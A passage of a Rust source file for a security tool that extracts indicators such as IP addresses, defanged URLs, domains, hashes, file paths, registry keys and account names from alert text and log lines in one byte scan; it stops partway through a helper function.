//! Observables in free text: alert titles and descriptions, log lines.
//!
//! [`extract`] makes one left-to-right pass over the bytes of the text. At the
//! start of each word it tries only the forms that can begin there, judged by
//! the word's first byte and the byte after it, so most words cost a glance.
//! A word that continues a dotted token (`1.2.3.4.5`, `invoice.pdf`) is never
//! tried as the start of an address, e-mail or domain, so nothing is found in
//! the middle of a longer token. Whatever the scan finds is handed to
//! [`normalise`], which has the last word on whether it is valid.

use std::collections::HashSet;
use std::net::{IpAddr, Ipv6Addr};

use crate::observable::{ObservableKind, normalise};

/// An observable found in text, in its normal form (see [`normalise`]).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Extracted {
    pub kind: ObservableKind,
    pub value: String,
}

/// Top-level domains a bare domain may end in. Any two letters (a country
/// code) are accepted too, unless they are a file extension.
const TLDS: &[&str] = &[
    "com", "net", "org", "info", "biz", "gov", "edu", "mil", "int", "xyz", "top", "online", "site", "club", "app",
    "dev", "cloud", "onion", "arpa", "local", "lan", "corp", "internal", "example", "test", "shop", "live", "store",
    "tech", "icu", "pro", "link", "work", "space", "website", "page",
];

/// Last labels that make a dotted word a file name (`invoice.pdf`), not a domain.
const FILE_EXTENSIONS: &[&str] = &[
    "exe", "dll", "bat", "ps1", "vbs", "js", "jar", "zip", "rar", "7z", "pdf", "doc", "docx", "xls", "xlsx", "ppt",
    "pptx", "txt", "log", "csv", "json", "xml", "html", "htm", "png", "jpg", "jpeg", "gif", "sys", "tmp", "dat", "bin",
    "iso", "msi", "lnk", "scr", "hta", "py", "sh", "md", "go", "rb", "ts", "cs",
];

/// URL schemes, defanged ones included; a scheme comes before any other it starts.
const SCHEMES: &[&[u8]] = &[b"https", b"hxxps", b"http", b"hxxp", b"ftps", b"fxps", b"ftp", b"fxp"];

/// What may stand between a URL's scheme and its host.
const SCHEME_SEPARATORS: &[&[u8]] = &[b"://", b"[://]", b"[:]//"];

/// Defanged dots, matched without regard to case.
const DOTS: &[&[u8]] = &[b"[.]", b"(.)", b"{.}", b"[dot]", b"(dot)", b"{dot}"];

/// Defanged at signs, matched without regard to case.
const ATS: &[&[u8]] = &[b"[@]", b"[at]", b"(at)", b"{at}"];

/// Keys whose value is a user account (`user=alice`, `"userName": "alice"`).
const USER_KEYS: &[&[u8]] = &[
    b"user",
    b"username",
    b"user_name",
    b"account",
    b"accountname",
    b"account_name",
    b"suser",
    b"duser",
    b"srcuser",
    b"dstuser",
    b"src_user",
    b"dst_user",
    b"targetusername",
    b"subjectusername",
];

/// Keys whose value is a host name (`host=ws-042`, `Computer: ws-042`).
const HOST_KEYS: &[&[u8]] = &[
    b"host",
    b"hostname",
    b"host_name",
    b"computer",
    b"computername",
    b"computer_name",
    b"workstation",
    b"workstationname",
    b"shost",
    b"dhost",
];

/// Keys that may be followed by a separate word `Name`, as Windows writes
/// them (`Account Name:`), and what their value is.
const NAME_KEYS: &[(&[u8], ObservableKind)] = &[
    (b"account", ObservableKind::UserAccount),
    (b"user", ObservableKind::UserAccount),
    (b"computer", ObservableKind::Hostname),
    (b"host", ObservableKind::Hostname),
    (b"workstation", ObservableKind::Hostname),
];

/// Values that say there is no value, or answer a yes-or-no question
/// (`Virtual Account: No` in a Windows logon message is no account).
const NULL_VALUES: &[&str] = &["null", "none", "nil", "unknown", "undefined", "no", "yes", "true", "false"];

/// Registry hives, which look like NetBIOS domains in `HKLM\Software`.
const HIVES: &[&str] = &["HKLM", "HKCU", "HKCR", "HKU", "HKCC"];

/// Hive names that start a registry key in free text (`hklm\software\…`,
/// `HKEY_LOCAL_MACHINE\…`, `HKCU:\…`), matched without regard to case.
const HIVE_WORDS: &[&str] = &[
    "hklm",
    "hkcu",
    "hkcr",
    "hku",
    "hkcc",
    "hkey_local_machine",
    "hkey_current_user",
    "hkey_classes_root",
    "hkey_users",
    "hkey_current_config",
];

/// Keys whose value is a version, not an address (`"version":"7.5.4.0"`);
/// any key ending in `version` is one too.
const VERSION_KEYS: &[&str] = &["ver", "build", "release"];

/// The longest key in [`USER_KEYS`] and [`HOST_KEYS`].
const MAX_KEY_LEN: usize = 15;

/// Every observable in `text`, normalised with [`normalise`], each once (by
/// kind and value), in the order of first appearance. It finds:
///
/// - IP addresses: IPv4 dotted quads (octets 0 to 255; not part of a longer
///   dotted number such as the version `1.2.3.4.5`) and IPv6 addresses (hex
///   groups with at least two colons, `::` compression included);
/// - URLs with the schemes `http`, `https`, `ftp`, `ftps` and their defanged
///   forms (`hxxp`, `hxxps`, `fxp`, `fxps`, `[://]`), up to a blank, quote,
///   `<`, `>` or `|`, without trailing punctuation or unbalanced brackets;
/// - e-mail addresses, also with `[at]`, `[@]`, `(at)` and defanged dots;
/// - domains: dotted names whose last label is a common top-level domain or
///   any two letters, also with `[.]`, `(.)`, `[dot]`, `(dot)`; not file names
///   (`invoice.pdf`, `evil.exe`), and not the host of a URL or e-mail address
///   found in the same text;
/// - MD5, SHA-1 and SHA-256 hashes: whole words of 32, 40 or 64 hex digits;
/// - file paths: `C:\…`, `\\server\share\…`, and absolute Unix paths of at
///   least two names (`/etc/passwd`), up to a blank or quote;
/// - user accounts: `DOMAIN\user` (an upper-case NetBIOS domain) and the value
///   of `user=`, `username:`, `account:`, `Account Name:` and similar keys;
/// - host names, only as the value of `host=`, `hostname:`, `computer:` and
///   similar keys (an address there is reported as an IP).
///
/// Known limits: paths end at the first blank (`C:\Program Files\…` is cut),
/// labels are ASCII (internationalised names are not found), defanged marks
/// with blanks around them (`evil [.] example`) are not read, and a dotted
/// identifier that ends in a listed top-level domain (`System.IO`) is taken
/// for a domain.
pub fn extract(text: &str) -> Vec<Extracted> {
    let mut scanner = Scanner {
        text,
        b: text.as_bytes(),
        found: Vec::new(),
        seen: HashSet::new(),
        recent: Vec::new(),
        hosts: HashSet::new(),
    };
    scanner.run();
    scanner.finish()
}

/// Up to this many values are told apart by comparing them with each found
/// value; beyond it, by a hash set.
const SMALL: usize = 32;

struct Scanner<'t> {
    text: &'t str,
    b: &'t [u8],
    found: Vec<Extracted>,
    /// What `found` holds, once it holds more than [`SMALL`] values.
    seen: HashSet<Extracted>,
    /// The first [`SMALL`] texts handed to [`normalise`], with whether they
    /// were valid: an indicator repeated in a text is normalised once.
    recent: Vec<(ObservableKind, &'t str, bool)>,
    /// The hosts of the URLs and e-mail addresses found: not also domains.
    hosts: HashSet<String>,
}

impl<'t> Scanner<'t> {
    fn run(&mut self) {
        let b = self.b;
        let mut i = 0;
        // Every stop of `i` is a character boundary: the scan steps over
        // whole characters, and every match ends before an ASCII byte or at
        // the end of the text.
        while let Some(&c) = b.get(i) {
            i = if is_word(c) {
                self.word(i)
            } else if c >= 0x80 {
                self.non_ascii(i)
            } else {
                self.punct(i).unwrap_or(i + 1)
            };
        }
    }

    fn finish(self) -> Vec<Extracted> {
        let Scanner { mut found, hosts, .. } = self;
        if !hosts.is_empty() {
            found.retain(|e| e.kind != ObservableKind::Domain || !hosts.contains(&e.value));
        }
        found
    }

    /// Records the value `raw`, a slice of the text; false if it is not valid.
    fn push(&mut self, kind: ObservableKind, raw: &'t str) -> bool {
        if let Some(&(.., valid)) = self.recent.iter().find(|(k, r, _)| *k == kind && *r == raw) {
            return valid;
        }
        let valid = self.push_value(kind, raw);
        if self.recent.len() < SMALL {
            self.recent.push((kind, raw, valid));
        }
        valid
    }

    /// Normalises and records a value; false if it is not valid.
    fn push_value(&mut self, kind: ObservableKind, raw: &str) -> bool {
        let Ok(normalised) = normalise(kind, raw) else {
            return false;
        };
        // A loopback, multicast or unspecified address names no host; it is
        // read (so that nothing inside it is taken for something else) but
        // not kept.
        if normalised.ip_class.is_some_and(|c| !c.is_indicator()) {
            return true;
        }
        let value = normalised.value;
        match kind {
            ObservableKind::Url => {
                if let Some(host) = url_host(&value) {
                    self.hosts.insert(host.to_owned());
                }
            }
            ObservableKind::Email => {
                if let Some((_, domain)) = value.rsplit_once('@') {
                    self.hosts.insert(domain.to_owned());
                }
            }
            _ => {}
        }
        let found = Extracted { kind, value };
        if self.found.len() < SMALL {
            if !self.found.contains(&found) {
                self.found.push(found);
            }
        } else {
            if self.seen.is_empty() {
                self.seen.extend(self.found.iter().cloned());
            }
            if !self.seen.contains(&found) {
                self.seen.insert(found.clone());
                self.found.push(found);
            }
        }
        true
    }

    /// A character beyond ASCII at `i`: a letter or digit of another script
    /// takes the rest of its word along, anything else is stepped over.
    fn non_ascii(&self, i: usize) -> usize {
        let Some(c) = char_at(self.text, i) else {
            return i + 1;
        };
        let mut j = i + c.len_utf8();
        if c.is_alphanumeric() {
            while let Some(&d) = self.b.get(j) {
                if is_word(d) {
                    j += 1;
                } else if let Some(ch) = char_at(self.text, j).filter(|ch| d >= 0x80 && ch.is_alphanumeric()) {
                    j += ch.len_utf8();
                } else {
                    break;
                }
            }
        }
        j
    }

    /// ASCII punctuation at `i`: where paths and `::`-addresses start.
    fn punct(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        match b[i] {
            b'/' => self.unix_path(i),
            b'\\' => self.unc_path(i),
            b':' if b.get(i + 1) == Some(&b':') && !prev(b, i).is_some_and(|p| is_word(p) || p == b':') => self.ipv6(i),
            _ => None,
        }
    }

    /// The start of a word (ASCII letters, digits and `_`) at `i`; returns
    /// where the scan goes on.
    fn word(&mut self, i: usize) -> usize {
        let b = self.b;
        let we = word_end(b, i);
        let len = we - i;
        let first = b[i];
        if matches!(len, 32 | 40 | 64) && is_hex(&b[i..we]) && self.hash(i, we) {
            return we;
        }
        let Some(&next) = b.get(we) else {
            return we;
        };
        // Most words are followed by a blank or plain punctuation, and only a
        // `key: value` can then start here.
        if !matches!(
            next,
            b'.' | b'@' | b'[' | b'(' | b'{' | b':' | b'\\' | b'=' | b'"' | b'\'' | b'-' | b'%' | b'+' | b' ' | b'\t'
        ) {
            return we;
        }
        if matches!(next, b':' | b'[')
            && matches!(first | 0x20, b'h' | b'f')
            && let Some(end) = self.url(i)
        {
            return end;
        }
        if len == 1
            && next == b':'
            && first.is_ascii_alphabetic()
            && let Some(end) = self.drive_path(i)
        {
            return end;
        }
        if (4..=MAX_KEY_LEN).contains(&len)
            && matches!(next, b'=' | b':' | b' ' | b'\t' | b'"' | b'\'')
            && let Some(end) = self.key_value(i, we)
        {
            return end;
        }
        if matches!(next, b'\\' | b':')
            && first.is_ascii_alphabetic()
            && let Some(end) = self.registry_key(i, we)
        {
            return end;
        }
        if matches!(next, b'\\' | b'-')
            && (first.is_ascii_uppercase() || first.is_ascii_digit())
            && let Some(end) = self.netbios(i)
        {
            return end;
        }
        if next == b':'
            && len <= 4
            && is_hex(&b[i..we])
            && let Some(end) = self.ipv6(i)
        {
            return end;
        }
        if matches!(next, b'.' | b'[' | b'(' | b'{' | b'@' | b'%' | b'+' | b'-') && !after_dot(b, i) {
            if first.is_ascii_digit()
                && matches!(next, b'.' | b'[' | b'(' | b'{')
                && !after_version_key(b, i)
                && let Some(end) = self.ipv4(i)
            {
                return end;
            }
            // A word inside a name (`a-b`, `a+b`, `dir/name`, `DOMAIN\name`)
            // is not the start of an e-mail address or domain.
            let joined = match prev(b, i) {
                Some(b'-' | b'+' | b'%' | b'\\') => true,
                Some(b'/') => prev(b, i - 1) != Some(b'/'),
                _ => false,
            };
            if !joined {
                if let Some(end) = self.email(i) {
                    return end;
                }
                if let Some(end) = self.domain(i) {
                    return end;
                }
            }
        }
        we
    }

    /// A whole word of 32, 40 or 64 hexadecimal digits.
    fn hash(&mut self, i: usize, we: usize) -> bool {
        let kind = match we - i {
            32 => ObservableKind::Md5,
            40 => ObservableKind::Sha1,
            _ => ObservableKind::Sha256,
        };
        let text = self.text;
        text.get(i..we).is_some_and(|raw| self.push(kind, raw))
    }

    /// `http://…`, `hxxps[://]…`. Something that starts like a URL is taken
    /// whole, valid or not: nothing inside a broken URL is looked at.
    fn url(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        let scheme = SCHEMES.iter().find(|s| starts_with_ci(&b[i..], s))?;
        let after = i + scheme.len();
        let sep = SCHEME_SEPARATORS.iter().find(|s| b[after..].starts_with(s))?;
        let body = after + sep.len();
        let end = strip_trailing(b, body, body_end(self.text, b, body));
        if end == body {
            return None;
        }
        let text = self.text;
        if let Some(raw) = text.get(i..end) {
            self.push(ObservableKind::Url, raw);
        }
        Some(end)
    }

    /// `HKLM\Software\…`, `hkcu:\…`, `HKEY_LOCAL_MACHINE\…` and their
    /// JSON-escaped forms, up to a blank or quote: a registry key.
    fn registry_key(&mut self, i: usize, we: usize) -> Option<usize> {
        let b = self.b;
        let word = &b[i..we];
        if !HIVE_WORDS.iter().any(|h| word.eq_ignore_ascii_case(h.as_bytes())) {
            return None;
        }
        if prev(b, i).is_some_and(|p| is_word(p) || matches!(p, b'\\' | b'/' | b'.' | b'-')) {
            return None;
        }
        let mut p = we;
        if b.get(p) == Some(&b':') {
            p += 1;
        }
        if b.get(p) != Some(&b'\\') {
            return None;
        }
        let end = strip_trailing(b, i, body_end(self.text, b, p));
        if !b[p..end].iter().any(|&c| c != b'\\') {
            return None;
        }
        let text = self.text;
        let raw = text.get(i..end)?;
        let raw = raw.trim_end_matches('\\');
        if raw.contains("\\\\") {
            self.push_value(ObservableKind::RegistryKey, &raw.replace("\\\\", "\\"));
        } else {
            self.push(ObservableKind::RegistryKey, raw);
        }
        Some(end)
    }

    /// `C:\Windows\…`, `C:/Users/…`, and the JSON-escaped `C:\\Windows\\…`.
    fn drive_path(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        let sep = *b.get(i + 2)?;
        if sep != b'\\' && sep != b'/' {
            return None;
        }
        let end = strip_trailing(b, i, body_end(self.text, b, i + 2));
        if !b[i + 2..end].iter().any(|&c| c != b'\\' && c != b'/') {
            return None;
        }
        let text = self.text;
        let raw = text.get(i..end)?;
        if sep == b'\\' && b.get(i + 3) == Some(&b'\\') {
            self.push_value(ObservableKind::FilePath, &raw.replace("\\\\", "\\"));
        } else {
            self.push(ObservableKind::FilePath, raw);
        }
        Some(end)
    }

    /// `\\server\share\…`.
    fn unc_path(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        if b.get(i + 1) != Some(&b'\\') || prev(b, i).is_some_and(|p| is_word(p) || p == b'\\') {
            return None;
        }
        let server = i + 2;
        let mut p = server;
        while b.get(p).is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'$')) {
            p += 1;
        }
        if p == server || b.get(p) != Some(&b'\\') {
            return None;
        }
        let share = p + 1;
        if b.get(share).is_none_or(|&c| c == b'\\') {
            return None;
        }
        let end = strip_trailing(b, i, body_end(self.text, b, share));
        if end <= share {
            return None;
        }
        let text = self.text;
        self.push(ObservableKind::FilePath, text.get(i..end)?);
        Some(end)
    }

    /// `/etc/passwd`, `/tmp/x/y`: at least two names, after a blank or an
    /// opening punctuation mark (not `and/or`, not `1/2/2024`).
    fn unix_path(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        let starts = match prev(b, i) {
            None => true,
            Some(p) if p >= 0x80 => {
                self.text.get(..i).and_then(|s| s.chars().next_back()).is_some_and(|c| !c.is_alphanumeric())
            }
            Some(p) => {
                p.is_ascii_whitespace()
                    || matches!(
                        p,
                        b'"' | b'\'' | b'`' | b'=' | b'(' | b'[' | b'{' | b'<' | b'>' | b',' | b';' | b':' | b'|'
                    )
            }
        };
        if !starts || !b.get(i + 1).is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_')) {
            return None;
        }
        let end = strip_trailing(b, i, body_end(self.text, b, i + 1));
        // A Windows switch with a value (`/i:http://…`, `/format:x`) is not
        // a path: the URL or name after it is read on its own.
        let first_name = b[i + 1..end].split(|&c| c == b'/').next().unwrap_or_default();
        if first_name.contains(&b':') {
            return None;
        }
        // At least two names.
        b[i..end].split(|&c| c == b'/').filter(|name| !name.is_empty()).nth(1)?;
        let text = self.text;
        self.push(ObservableKind::FilePath, text.get(i..end)?);
        Some(end)
    }

    /// `key=value`, `key: value`, `"key": "value"`, `Account Name: value`
    /// for the keys in [`USER_KEYS`], [`HOST_KEYS`] and [`NAME_KEYS`].
    fn key_value(&mut self, i: usize, we: usize) -> Option<usize> {
        let b = self.b;
        let key = &b[i..we];
        let mut p = we;
        if matches!(b.get(p), Some(b'"' | b'\'')) {
            if prev(b, i) != b.get(p).copied() {
                return None;
            }
            p += 1;
        }
        p = skip_blanks(b, p);
        let kind = if matches!(b.get(p), Some(b'=' | b':')) {
            if USER_KEYS.iter().any(|k| key.eq_ignore_ascii_case(k)) {
                ObservableKind::UserAccount
            } else if HOST_KEYS.iter().any(|k| key.eq_ignore_ascii_case(k)) {
                ObservableKind::Hostname
            } else {
                return None;
            }
        } else {
            if p == we || !starts_with_ci(&b[p..], b"name") {
                return None;
            }
            p = skip_blanks(b, p + 4);
            if !matches!(b.get(p), Some(b'=' | b':')) {
                return None;
            }
            NAME_KEYS.iter().find(|(k, _)| key.eq_ignore_ascii_case(k))?.1
        };
        p = skip_blanks(b, p + 1);
        let quote = match b.get(p) {
            Some(&q @ (b'"' | b'\'')) => {
                p += 1;
                Some(q)
            }
            _ => None,
        };
        let start = p;
        let value_char = if kind == ObservableKind::UserAccount { is_user_value } else { is_host_value };
        let mut end = start;
        while b.get(end).copied().is_some_and(value_char) {
            end += 1;
        }
        let ends = match quote {
            Some(q) => b.get(end) == Some(&q),
            None => self.value_ends(end, kind),
        };
        let mut value_end = end;
        while value_end > start && b[value_end - 1] == b'.' {
            value_end -= 1;
        }
        if !ends || !b.get(start).is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_') {
            return None;
        }
        let text = self.text;
        let value = text.get(start..value_end)?;
        if NULL_VALUES.iter().any(|n| value.eq_ignore_ascii_case(n)) {
            return None;
        }
        let pushed = match kind {
            ObservableKind::Hostname if value.parse::<IpAddr>().is_ok() => self.push(ObservableKind::Ip, value),
            ObservableKind::UserAccount if value.contains("\\\\") => {
                self.push_value(kind, &value.replace("\\\\", "\\"))
            }
            _ => self.push(kind, value),
        };
        pushed.then_some(end)
    }

    /// Whether an unquoted value that stops at `end` ends there, rather than
    /// running into something that is not a name (`user=N/A`).
    fn value_ends(&self, end: usize, kind: ObservableKind) -> bool {
        let b = self.b;
        match b.get(end) {
            None => true,
            Some(&c) if c >= 0x80 => char_at(self.text, end).is_some_and(|ch| !ch.is_alphanumeric()),
            Some(b':') => match b.get(end + 1) {
                None => true,
                Some(&n) => n.is_ascii_whitespace() || (kind == ObservableKind::Hostname && n.is_ascii_digit()),
            },
            Some(&c) => {
                c.is_ascii_whitespace()
                    || matches!(c, b',' | b';' | b'&' | b'|' | b')' | b']' | b'}' | b'>' | b'"' | b'\'')
            }
        }
    }

    /// `CORP\alice`, `WS-042\admin$`, `NT AUTHORITY\SYSTEM`, and the
    /// JSON-escaped `CORP\\alice`.
    fn netbios(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        if prev(b, i).is_some_and(|p| matches!(p, b'\\' | b'/' | b'.' | b'-' | b'@')) {
            return None;
        }
        let mut p = i;
        let mut upper = false;
        while let Some(&c) = b.get(p) {
            if c.is_ascii_uppercase() {
                upper = true;
            } else if !c.is_ascii_digit() && c != b'-' {
                break;
            }
            p += 1;
            if p - i > 15 {
                return None;
            }
        }
        if !upper || p - i < 2 || b.get(p) != Some(&b'\\') {
            return None;
        }
        let text = self.text;
        let domain = text.get(i..p)?;
        if HIVES.contains(&domain) {
            return None;
        }
        let mut s = p + 1;
        if b.get(s) == Some(&b'\\') {
            s += 1;
        }
        if !b.get(s).is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_') {
            return None;
        }
        let mut e = s;
        while b.get(e).copied().is_some_and(is_user_char) {
            e += 1;
        }
        // A further backslash makes it a path or a registry key.
        if b.get(e) == Some(&b'\\') {
            return None;
        }
        while b[e - 1] == b'.' {
            e -= 1;
        }
        let nt = domain == "AUTHORITY" && text.get(..i).is_some_and(|t| t.ends_with("NT "));
        let start = if nt { i - 3 } else { i };
        let pushed = if s == p + 1 {
            self.push(ObservableKind::UserAccount, text.get(start..e)?)
        } else {
            self.push_value(ObservableKind::UserAccount, &format!("{}\\{}", text.get(start..p)?, text.get(s..e)?))
        };
        pushed.then_some(e)
    }

    /// An IPv6 address from `i`: hex digits, colons, and the dots of an
    /// embedded IPv4 address, read by the standard parser.
    fn ipv6(&mut self, i: usize) -> Option<usize> {
        /// The longest text of an IPv6 address (`ffff:…:255.255.255.255`).
        const MAX: usize = 45;
        let b = self.b;
        let mut p = i;
        // A decimal digit too, so that `a::b` in code is not an address.
        let (mut colons, mut digits) = (0, false);
        while let Some(&c) = b.get(p) {
            match c {
                b':' => colons += 1,
                b'.' | b'a'..=b'f' | b'A'..=b'F' => {}
                b'0'..=b'9' => digits = true,
                _ => break,
            }
            p += 1;
            if p - i > MAX + 2 {
                return None;
            }
        }
        if colons < 2 || !digits || b.get(p).copied().is_some_and(is_word) {
            return None;
        }
        // Not the full stop or colon after it in a sentence.
        let mut end = p;
        while end > i && b[end - 1] == b'.' {
            end -= 1;
        }
        if end >= i + 2 && b[end - 1] == b':' && b[end - 2] != b':' {
            end -= 1;
        }
        let text = self.text;
        let raw = text.get(i..end)?;
        raw.parse::<Ipv6Addr>().ok()?;
        self.push(ObservableKind::Ip, raw).then_some(end)
    }

    /// A dotted quad from `i`, its dots perhaps defanged (`203.0.113[.]7`).
    fn ipv4(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        let mut p = i;
        let mut octets = [0u8; 4];
        // Written as the address's normal form: plain dots, no leading zeros.
        let mut plain = true;
        for (n, octet) in octets.iter_mut().enumerate() {
            if n > 0 {
                let dot = dot_len(b, p);
                if dot == 0 {
                    return None;
                }
                plain &= dot == 1;
                p += dot;
            }
            let start = p;
            let mut v = 0u16;
            while p - start < 3
                && let Some(&c) = b.get(p)
                && c.is_ascii_digit()
            {
                v = v * 10 + u16::from(c - b'0');
                p += 1;
            }
            if p == start {
                return None;
            }
            plain &= p - start == 1 || b[start] != b'0';
            *octet = u8::try_from(v).ok()?;
        }
        // Not part of a longer number or dotted name (`1.2.3.4.5`, `4.3.2.1.in-addr.arpa`).
        if b.get(p).copied().is_some_and(is_word) {
            return None;
        }
        let dot = dot_len(b, p);
        if dot > 0 && b.get(p + dot).is_some_and(u8::is_ascii_alphanumeric) {
            return None;
        }
        let pushed = if plain {
            let text = self.text;
            self.push(ObservableKind::Ip, text.get(i..p)?)
        } else {
            let [w, x, y, z] = octets;
            self.push_value(ObservableKind::Ip, &format!("{w}.{x}.{y}.{z}"))
        };
        pushed.then_some(p)
    }

    /// `local@domain.tld`, the at sign and dots perhaps defanged.
    fn email(&mut self, i: usize) -> Option<usize> {
        /// The longest local part (RFC 5321).
        const MAX_LOCAL: usize = 64;
        let b = self.b;
        let mut p = i;
        while b.get(p).copied().is_some_and(is_local_char) {
            p += 1;
            if p - i > MAX_LOCAL {
                return None;
            }
        }
        if b[p - 1] == b'.' {
            return None;
        }
        let at = at_len(b, p);
        if at == 0 {
            return None;
        }
        let (end, labels, last) = dotted(b, p + at);
        if labels < 2 || !tld_ok(&b[last..end]) {
            return None;
        }
        let text = self.text;
        self.push(ObservableKind::Email, text.get(i..end)?).then_some(end)
    }

    /// Labels joined by dots, the last a known top-level domain.
    fn domain(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        let (end, labels, last) = dotted(b, i);
        if labels < 2 || !tld_ok(&b[last..end]) {
            return None;
        }
        let text = self.text;
        self.push(ObservableKind::Domain, text.get(i..end)?).then_some(end)
    }
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

fn is_label_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'-' || c == b'_'
}

fn is_local_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'%' | b'+' | b'-')
}

fn is_user_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'$')
}

fn is_user_value(c: u8) -> bool {
    is_user_char(c) || c == b'@' || c == b'\\'
}

fn is_host_value(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-')
}

fn is_hex(s: &[u8]) -> bool {
    s.iter().all(u8::is_ascii_hexdigit)
}

fn prev(b: &[u8], i: usize) -> Option<u8> {
    i.checked_sub(1).map(|j| b[j])
}

fn char_at(text: &str, i: usize) -> Option<char> {
    text.get(i..).and_then(|s| s.chars().next())
}

fn word_end(b: &[u8], mut i: usize) -> usize {
    while b.get(i).copied().is_some_and(is_word) {
        i += 1;
    }
    i
}

fn skip_blanks(b: &[u8], mut i: usize) -> usize {
    while matches!(b.get(i), Some(b' ' | b'\t')) {
        i += 1;
    }
    i
}

fn starts_with_ci(hay: &[u8], pat: &[u8]) -> bool {
    hay.get(..pat.len()).is_some_and(|h| h.eq_ignore_ascii_case(pat))
}

/// The length of the dot at `i`: `.` or a defanged one; 0 if there is none.
fn dot_len(b: &[u8], i: usize) -> usize {
    match b.get(i) {
        Some(b'.') => 1,
        Some(b'[' | b'(' | b'{') => DOTS.iter().find(|d| starts_with_ci(&b[i..], d)).map_or(0, |d| d.len()),
        _ => 0,
    }
}

/// The length of the at sign at `i`: `@` or a defanged one; 0 if there is none.
fn at_len(b: &[u8], i: usize) -> usize {
    match b.get(i) {
        Some(b'@') => 1,
        Some(b'[' | b'(' | b'{') => ATS.iter().find(|d| starts_with_ci(&b[i..], d)).map_or(0, |d| d.len()),
        _ => 0,
    }
}

/// Whether the word at `i` is the value of a version key (`version=7.5.4.0`,
/// `"FileVersion": "7.0.1.1"`, `ver: 1.0.0.0`): a dotted quad there is a
/// version.
fn after_version_key(b: &[u8], i: usize) -> bool {
    let mut p = i;
    // Back over the quote, separator and blanks between key and value.
    let mut separated = false;
    while p > 0 && matches!(b[p - 1], b'"' | b'\'' | b' ' | b'\t' | b'=' | b':') {
        separated |= matches!(b[p - 1], b'=' | b':');
        p -= 1;
    }
    if !separated {
        return false;
    }
    let end = p;
    while p > 0 && (b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_') && end - p < 24 {
        p -= 1;
    }
    let key = &b[p..end];
    if key.is_empty() {
        return false;
    }
    let lower: Vec<u8> = key.iter().map(u8::to_ascii_lowercase).collect();
    VERSION_KEYS.iter().any(|k| lower == k.as_bytes()) || lower.ends_with(b"version") || lower.ends_with(b"_ver")
}

/// Whether the word at `i` comes right after a dot, plain or defanged.
fn after_dot(b: &[u8], i: usize) -> bool {
    let before = &b[..i];
    match before.last() {
        Some(b'.') => true,
        Some(b']' | b')' | b'}') => {
            DOTS.iter().any(|d| before.len() >= d.len() && before[before.len() - d.len()..].eq_ignore_ascii_case(d))
        }
        _ => false,
    }
}

/// Labels joined by dots from `i`: where they end, how many there are, and
/// where the last one starts. No labels if the run is longer than any name.
fn dotted(b: &[u8], i: usize) -> (usize, usize, usize) {
    /// Longer than any domain (253 characters), defanged dots and all.
    const MAX: usize = 1024;
    let label_end = |mut p: usize| {
        while p - i <= MAX && b.get(p).copied().is_some_and(is_label_char) {
            p += 1;
        }
        p
    };
    let mut end = label_end(i);
    let (mut labels, mut last) = (usize::from(end > i), i);
    while labels > 0 {
        if end - i > MAX {
            return (end, 0, last);
        }
        let dot = dot_len(b, end);
        if dot == 0 {
            break;
        }
        let start = end + dot;
        let next = label_end(start);
        if next == start {
            break;
        }
        (labels, last, end) = (labels + 1, start, next);
    }
    (end, labels, last)
}

/// Whether `tld` may end a domain: 2 to 24 letters, in [`TLDS`] or two
/// letters, and not a file extension.
fn tld_ok(tld: &[u8]) -> bool {
    if !(2..=24).contains(&tld.len()) || !tld.iter().all(u8::is_ascii_alphabetic) {
        return false;
    }
    let mut buf = [0u8; 24];
    let lower = &mut buf[..tld.len()];
    lower.copy_from_slice(tld);
    lower.make_ascii_lowercase();
    let lower: &[u8] = lower;
    let listed = |list: &[&str]| list.iter().any(|w| w.as_bytes() == lower);
    !listed(FILE_EXTENSIONS) && (lower.len() == 2 || listed(TLDS))
}

/// Where the body of a URL or path that starts at `p` ends: at a blank
/// (of any script), a control character, a quote, `<`, `>`, `` ` `` or `|`.
fn body_end(text: &str, b: &[u8], mut p: usize) -> usize {
    while let Some(&c) = b.get(p) {
        if c < 0x80 {
            if c <= b' ' || c == 0x7f || matches!(c, b'"' | b'\'' | b'`' | b'<' | b'>' | b'|') {
                break;
            }
            p += 1;
        } else {
            match char_at(text, p) {
                Some(ch)
                    if ch.is_whitespace() || ch.is_control() || matches!(ch, '“' | '”' | '‘' | '’' | '«' | '»') =>
                {
                    break;
                }
                Some(ch) => p += ch.len_utf8(),
                None => p += 1,
            }
        }
    }
    p
}

/// `end` moved back over trailing punctuation (`.,;:!?` and quotes) and
/// closing brackets that have no opening one in `b[start..end]`, so that
/// `(see http://x.example/a).` ends at `a` but `…/wiki/A_(b)` keeps its `)`.
fn strip_trailing(b: &[u8], start: usize, mut end: usize) -> usize {
    const PAIRS: [(u8, u8); 3] = [(b'(', b')'), (b'[', b']'), (b'{', b'}')];
    // Counted once, when first needed: opening and closing brackets of each pair.
    let mut counts: Option<[(usize, usize); 3]> = None;
    while end > start {
        let c = b[end - 1];
        let strip = if matches!(c, b'.' | b',' | b';' | b':' | b'!' | b'?' | b'\'' | b'"') {
            true
        } else if let Some(k) = PAIRS.iter().position(|&(_, close)| close == c) {
            let counts = counts.get_or_insert_with(|| {
                PAIRS.map(|(open, close)| {
                    let seg = &b[start..end];
                    (seg.iter().filter(|&&x| x == open).count(), seg.iter().filter(|&&x| x == close).count())
                })
            });
            let (opens, closes) = &mut counts[k];
            if *closes > *opens {
                *closes -= 1;
                true
            } else {
                false
            }
        } else {
            false
        };
        if !strip {
            break;
        }
